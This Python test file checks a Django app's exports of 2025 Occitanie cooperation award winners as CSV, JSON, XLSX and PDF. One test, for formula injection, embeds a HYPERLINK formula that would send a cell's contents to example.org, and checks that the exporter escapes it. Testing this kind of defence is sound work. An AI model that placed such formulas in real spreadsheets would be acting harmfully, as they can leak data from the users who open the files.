import csv
import io
import json

from decimal import Decimal

import openpyxl
import pdfplumber
from openpyxl.utils import get_column_letter

from coopdec.applications.models import Application
from coopdec.ingest.models import ImportBatch, ImportRow
from coopdec.publication.exports import COLUMNS, FORMATS
from coopdec.writers.spreadsheet import neutralise_formula
from tests import factories as f
from tests.downloads import download

PUBLICATION = ("Occitanie Coopération, lauréats 2025 (page du 8 septembre 2025)", "https://www.oc-cooperation.org/")

REGION = "/campagnes/2025/regions/occitanie/"


def test_csv_is_utf8_with_a_header_row_and_the_official_codes(client, occitanie):
    response, content = download(client, REGION + "laureats.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="laureats-occitanie-2025.csv"'
    assert not content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8"))))
    assert list(rows[0]) == [column.key for column in COLUMNS]
    assert len(rows) == 6
    castres = next(row for row in rows if row["collectivite"] == "Castres")
    assert castres["collectivite_nature"] == "commune"
    assert castres["collectivite_code"] == occitanie.applications["castres"].lead_authority.code
    assert (castres["departement_code"], castres["region_code"]) == ("81", "76")
    assert castres["partenaires_pays_iso"] == "RW"
    assert (castres["appel_slug"], castres["appel_nature"], castres["campagne"]) == (
        "generaliste-2025", "generaliste", "2025"
    )
    sicoval = next(row for row in rows if row["collectivite_nom_publie"] == "Sicoval")
    assert (sicoval["collectivite"], sicoval["collectivite_siren"]) == ("CA du Sicoval", "900000633")
    barjac = next(row for row in rows if row["collectivite_nom_publie"] == "Barjac")
    assert barjac["collectivite_a_confirmer"] == "true" and barjac["collectivite_code"] == ""
    toulouse = next(row for row in rows if row["collectivite"] == "Toulouse")
    assert toulouse["partenaires_pays_iso"] == "CH; CH; BE; RO; CA; BJ"


def test_downloads_carry_exactly_the_selection(client, occitanie):
    _, content = download(client, REGION + "laureats.csv", appel="franco-senegalais-2025")
    rows = list(csv.DictReader(io.StringIO(content.decode())))
    published_names = {row["collectivite_nom_publie"] for row in rows}
    assert published_names == {"Montpellier Métropole Méditerranée", "Sicoval"}
    _, content = download(client, "/campagnes/2025/laureats.json", departement="29")
    assert [row["collectivite"] for row in json.loads(content)] == ["Brest"]


def test_json_is_a_list_of_objects_with_their_provenance(client, occitanie):
    response, content = download(client, REGION + "laureats.json")
    assert response["Content-Disposition"] == 'attachment; filename="laureats-occitanie-2025.json"'
    records = json.loads(content)
    assert len(records) == 6
    assert set(records[0]) == {column.key for column in COLUMNS}
    assert {record["provenance"] for record in records} == {"import"}
    toulouse = records[-1]
    assert toulouse["partenaires"][0] == "Montreux (Suisse)"
    assert toulouse["partenaires_pays_iso"] == ["CH", "CH", "BE", "RO", "CA", "BJ"]
    assert toulouse["collectivite_a_confirmer"] is False


def test_xlsx_has_labelled_columns_and_the_rows(client, occitanie):
    response, content = download(client, REGION + "laureats.xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="laureats-occitanie-2025.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book["Lauréats"]
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert header == tuple(column.label for column in COLUMNS)
    assert len(rows) == 6
    records = [dict(zip(header, row, strict=True)) for row in rows]
    assert any(r["Collectivité française"] == "Castres" and r["Code du département"] == "81" for r in records)
    about = [row for row in book["À propos"].iter_rows(values_only=True) if row]
    assert ("Titre", "Lauréats 2025 en Occitanie") in about


def test_xlsx_is_ready_to_read_with_words_not_codes(client, occitanie):
    """Widths, a frozen header with its autofilter, and « fonds conjoint », not fonds_conjoint."""
    book = openpyxl.load_workbook(io.BytesIO(download(client, REGION + "laureats.xlsx")[1]))
    sheet = book["Lauréats"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(COLUMNS))}7"
    widths = {column.label: sheet.column_dimensions[get_column_letter(index)].width
              for index, column in enumerate(COLUMNS, start=1)}
    assert widths["Intitulé du projet"] > widths["Campagne"] > 0
    header, *rows = list(sheet.iter_rows(values_only=True))
    records = {r["Nom publié"]: r for r in (dict(zip(header, row, strict=True)) for row in rows)}
    barjac, sicoval, castres = records["Barjac"], records["Sicoval"], records["Castres"]
    assert barjac["Nature de l'appel"] == "fonds conjoint"
    assert (barjac["Collectivité à confirmer"], castres["Collectivité à confirmer"]) == ("oui", "non")
    assert (castres["Nature de la collectivité"], sicoval["Nature de la collectivité"]) == ("commune", "EPCI")
    assert castres["Provenance"] == "importé d'une liste publiée"
    assert records["Toulouse"]["Nature de l'appel"] == "appel à manifestation d'intérêt"
    every_value = {value for row in rows for value in row}
    assert not every_value & {"fonds_conjoint", "generaliste", "ami", "import", "epci", True, False}


def test_csv_for_excel_has_a_bom_semicolons_decimal_commas_and_words(client, occitanie):
    Application.objects.filter(pk=occitanie.applications["castres"].pk).update(granted_amount=Decimal("34000.50"))
    response, content = download(client, REGION + "laureats-excel.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="laureats-occitanie-2025-excel.csv"'
    assert response.streaming
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert list(rows[0]) == [column.label for column in COLUMNS] and len(rows) == 6
    castres = next(row for row in rows if row["Nom publié"] == "Castres")
    assert castres["Subvention accordée (€)"] == "34000,50"
    assert castres["Nature de l'appel"] == "généraliste" and castres["Collectivité à confirmer"] == "non"
    # The CSV for programs keeps the decimal point and the codes.
    programs = list(csv.DictReader(io.StringIO(download(client, REGION + "laureats.csv")[1].decode())))
    castres = next(row for row in programs if row["collectivite_nom_publie"] == "Castres")
    assert (castres["subvention_accordee"], castres["appel_nature"]) == ("34000.50", "generaliste")


def test_every_page_offers_the_csv_for_excel_beside_the_csv(client, occitanie):
    for page in ("/campagnes/2025/", REGION, "/campagnes/2025/appels/generaliste-2025/"):
        html = client.get(page).content.decode()
        assert f'href="{page}laureats.csv"' in html and f'href="{page}laureats-excel.csv"' in html
        assert "CSV pour Excel" in html
    html = client.get(REGION, {"pays": "SN"}).content.decode()
    assert f'href="{REGION}laureats-excel.csv?pays=SN"' in html


def test_the_source_names_the_publication_and_its_address_never_a_file(client, occitanie):
    castres = occitanie.applications["castres"]
    batch = ImportBatch.objects.create(
        file_name="seed-occitanie-laureates-2025.txt", sha256="1" * 64, format="text",
        campaign=occitanie.campaign, state=ImportBatch.State.COMMITTED, source_label=PUBLICATION[0],
        source_url=PUBLICATION[1])
    ImportRow.objects.create(batch=batch, row_number=3, raw={}, resolution={}, status=ImportRow.Status.RESOLVED,
                             application=castres)
    filed = f.application("Déposé ici", occitanie.calls["generaliste"], castres.lead_authority,
                          provenance=Application.Provenance.PLATFORM)
    _, content = download(client, REGION + "laureats.csv")
    assert b"seed-occitanie" not in content
    rows = {row["intitule"]: row for row in csv.DictReader(io.StringIO(content.decode()))}
    assert (rows[castres.title]["source"], rows[castres.title]["source_adresse"]) == PUBLICATION
    assert rows[filed.title]["source"] == "dossier déposé sur CoopDec"
    assert rows[filed.title]["source_adresse"] == ""
    book = openpyxl.load_workbook(io.BytesIO(download(client, REGION + "laureats.xlsx")[1]))
    about = [row for row in book["À propos"].iter_rows(values_only=True) if row]
    assert PUBLICATION in about and ("dossier déposé sur CoopDec", None) in about
    records = json.loads(download(client, REGION + "laureats.json")[1])
    assert next(r for r in records if r["intitule"] == castres.title)["source"] == [PUBLICATION[0]]


def test_a_title_that_starts_a_formula_stays_text_in_every_spreadsheet(client, occitanie):
    """OWASP's « CSV injection »: an apostrophe before =, +, -, @, tab or carriage return."""
    formula = '=HYPERLINK("http://example.org/?x="&A1;"cliquer")'
    Application.objects.filter(pk=occitanie.applications["castres"].pk).update(title=formula)
    Application.objects.filter(pk=occitanie.applications["gandon"].pk).update(lead_name="@Sicoval")

    _, content = download(client, REGION + "laureats.csv")
    rows = list(csv.DictReader(io.StringIO(content.decode())))
    assert "'" + formula in {row["intitule"] for row in rows}
    assert "'@Sicoval" in {row["collectivite_nom_publie"] for row in rows}
    _, content = download(client, REGION + "laureats-excel.csv")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert "'" + formula in {row["Intitulé du projet"] for row in rows}
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, REGION + "laureats.xlsx")[1]))["Lauréats"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + formula in {cell.value for cell in cells}
    # JSON is not a spreadsheet: the title as published.
    assert formula in {r["intitule"] for r in json.loads(download(client, REGION + "laureats.json")[1])}


def test_neutralise_formula():
    for text in ("=1+1", "+33 1 23", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise_formula(text) == "'" + text
    for value in ("Castres", "", " =1", "'=1", 12, Decimal("-3"), None):
        assert neutralise_formula(value) == value


def test_the_csv_streams_its_first_line_before_reading_the_rows():
    read = []

    def rows():
        read.append(1)
        yield from ()

    lines = FORMATS["csv"].write(rows(), None)
    assert next(lines).startswith("cle,campagne,")
    assert read == []


def test_pdf_is_a_real_pdf_with_the_titles(client, occitanie):
    response, content = download(client, REGION + "laureats.pdf", pays="SN")
    assert response["Content-Disposition"] == 'attachment; filename="laureats-occitanie-2025.pdf"'
    assert content.startswith(b"%PDF")
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        text = " ".join(page.extract_text() for page in pdf.pages)
    assert "Lauréats 2025 en Occitanie" in text
    assert "Pays partenaire" in text and "Sénégal" in text
    assert "Bargny Inovate" in text and "Renforcement de la gouvernance" in text
    assert "Castres" not in text


def test_the_campaign_and_call_downloads_are_named_after_them(client, occitanie):
    response, _ = download(client, "/campagnes/2025/laureats.csv")
    assert response["Content-Disposition"] == 'attachment; filename="laureats-2025.csv"'
    response, content = download(client, "/campagnes/2025/appels/generaliste-2025/laureats.csv")
    assert response["Content-Disposition"] == 'attachment; filename="laureats-generaliste-2025.csv"'
    assert len(list(csv.DictReader(io.StringIO(content.decode())))) == 2
